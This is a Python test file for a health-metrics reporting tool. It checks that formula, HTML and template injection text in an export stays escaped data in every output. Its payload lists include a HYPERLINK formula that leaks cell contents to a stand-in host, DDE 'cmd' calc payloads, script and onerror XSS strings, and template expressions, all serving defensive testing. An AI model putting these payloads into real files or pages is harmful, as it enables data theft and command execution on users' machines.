"""Data that looks like a formula or like markup stays data in every output.

An export whose unit codes and case ids are ``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``,
``<script>``, quotes and ``{{ }}`` goes through validate, compute and report (commands run
in-process, with a mapping profile whose ``units`` list names those codes); then
* no workbook cell is a formula and every such text is a string cell;
* in every CSV a cell a spreadsheet would run starts with an apostrophe;
* the HTML shows the text escaped, runs no template code from it, and its Content-Security-Policy
  allows nothing external (no scripts at all, no network: ``default-src 'none'``).
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from nhvmetrics.cli import main

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "{% raw %}x",
    'it\'s "quoted"',
]
HOSTILE = FORMULAS + MARKUP


def run(args: list[str]) -> int:
    """Run a command in-process, output swallowed (module-scoped fixtures have no capsys)."""
    with (
        contextlib.redirect_stdout(io.StringIO()),
        contextlib.redirect_stderr(io.StringIO()) as err,
    ):
        try:
            main(args)
            return 0
        except SystemExit as exc:
            if exc.code not in (0, 1, None):
                raise AssertionError(err.getvalue()) from None
            return int(exc.code or 0)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> Path:
    from nhvmetrics.sample import write_sample

    folder = tmp_path_factory.mktemp("inject")
    src = folder / "clean.csv"
    write_sample("acc", 700, 11, src)
    df = pl.read_csv(src, infer_schema=False)
    # every hostile text becomes a unit code (each unit with 6 cases in the report year, large
    # enough to be shown) and a case id
    n = len(HOSTILE)
    in_year = pl.col("referral_date").str.starts_with("2025")
    nth = in_year.cast(pl.Int64).cum_sum() - 1  # index among the report year's rows
    df = df.with_columns(
        pl.when(in_year & (nth < 6 * n))
        .then((nth % n).replace_strict(dict(enumerate(HOSTILE)), return_dtype=pl.String))
        .otherwise(pl.col("unit"))
        .alias("unit"),
        pl.when(pl.int_range(pl.len()) < n)
        .then(pl.Series([h + f"#{i}" for i, h in enumerate(HOSTILE)] + [""] * (df.height - n)))
        .otherwise(pl.col("case_id"))
        .alias("case_id"),
    )
    # a few invalid rows so the findings and quarantine files hold hostile text too
    df = df.with_columns(
        pl.when(pl.int_range(pl.len()) < n).then(pl.lit("X")).otherwise(pl.col("sex")).alias("sex")
    )
    export = folder / "acc_cases.csv"
    df.write_csv(export)
    # no hospital code looks like that: the units' list of a mapping profile lets them through
    # (a region's own codes), so that they reach every output
    import yaml

    units = sorted({u for u in df["unit"].to_list() if u is not None})
    (folder / "profile.yaml").write_text(
        yaml.safe_dump({"area": "acc", "units": units}, allow_unicode=True), encoding="utf-8"
    )
    out = folder / "out"
    out.mkdir()
    return export, out


def _run_all(export: Path, out: Path) -> None:
    common = [
        "--area",
        "acc",
        "--extract-date",
        "2026-02-15",
        "--mapping",
        str(export.with_name("profile.yaml")),
    ]
    assert (
        run(
            [
                "validate",
                str(export),
                *common,
                "--errors",
                str(out / "findings.csv"),
                "--quarantine",
                str(out / "quarantine.csv"),
            ]
        )
        == 1
    )
    assert run(["validate", str(export), *common, "--errors", str(out / "findings.json")]) == 1
    for suffix in ("csv", "xlsx", "json"):
        assert (
            run(
                [
                    "compute",
                    str(export),
                    *common,
                    "--year",
                    "2025",
                    "-o",
                    str(out / f"ind.{suffix}"),
                ]
            )
            == 0
        )
    assert (
        run(
            [
                "report",
                str(export),
                *common,
                "--year",
                "2025",
                "--unit",
                HOSTILE[0],
                "-o",
                str(out / "r.html"),
                "--xlsx",
                str(out / "r.xlsx"),
            ]
        )
        == 0
    )


@pytest.fixture(scope="module")
def written(outputs) -> Path:
    export, out = outputs
    _run_all(export, out)
    return out


def test_workbooks_hold_no_formula(written: Path) -> None:
    seen = set()
    for name in ("r.xlsx", "ind.xlsx"):
        raw = (written / name).read_bytes()
        with zipfile.ZipFile(io.BytesIO(raw)) as z:
            for entry in z.namelist():
                if entry.startswith("xl/worksheets/"):
                    xml = z.read(entry)
                    assert b"<f>" not in xml and b"<f " not in xml, f"{name}:{entry} has a formula"
        wb = openpyxl.load_workbook(io.BytesIO(raw))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (name, ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        for h in FORMULAS:
                            if h in c.value:
                                seen.add(h)
                                assert c.data_type == "s"
                                if c.value.startswith(h[0]):
                                    # shown as text: a quote prefix or a leading apostrophe
                                    assert c.quotePrefix or c.value.startswith("'"), (
                                        name,
                                        c.coordinate,
                                        c.value,
                                    )
    assert seen == set(FORMULAS), (
        f"the test data did not reach the workbooks: {set(FORMULAS) - seen}"
    )


@pytest.mark.parametrize("name", ["findings.csv", "quarantine.csv", "ind.csv"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(written: Path, name: str) -> None:
    text = (written / name).read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    hits = [c for c in cells if any(h in c for h in FORMULAS)]
    assert hits, f"no hostile text reached {name}"
    for c in cells:
        assert not runs_in_a_spreadsheet(c), (name, c)


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Excel and LibreOffice treat a cell starting with = + - @ (or tab/CR) as a formula, unless
    it is a plain number such as -1.5."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    return not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?", cell)


def test_html_escapes_data_and_allows_nothing_external(written: Path) -> None:
    html = (written / "r.html").read_text(encoding="utf-8")
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert m, "no Content-Security-Policy"
    policy = {d.split()[0]: d.split()[1:] for d in m.group(1).split(";") if d.strip()}
    assert policy["default-src"] == ["'none'"]
    assert "script-src" not in policy  # scripts fall back to 'none'
    for directive, sources in policy.items():
        assert not any(s.startswith(("http", "//", "*")) or s == "https:" for s in sources), (
            directive,
            sources,
        )
    assert html.count("<script") == 0 and "onerror=alert" not in html.replace(
        "onerror=alert(1)&gt;", ""
    )
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html and "<script>alert" not in html
    # text reaches the page only escaped, and template syntax in the data is never run
    if "7*7" in html:
        assert html.count("7*7") == html.count("{{ 7*7 }}")
    if "raw %}" in html:
        assert "{% raw %}x" in html
    assert "&#34;http://evil.invalid/?x=&#34;&amp;A1" in html or "&quot;http://evil.invalid" in html


def test_json_outputs_are_data(written: Path) -> None:
    import json

    for name in ("findings.json", "ind.json"):
        data = json.loads((written / name).read_text(encoding="utf-8"))
        assert any(h in json.dumps(data, ensure_ascii=False) for h in HOSTILE), name
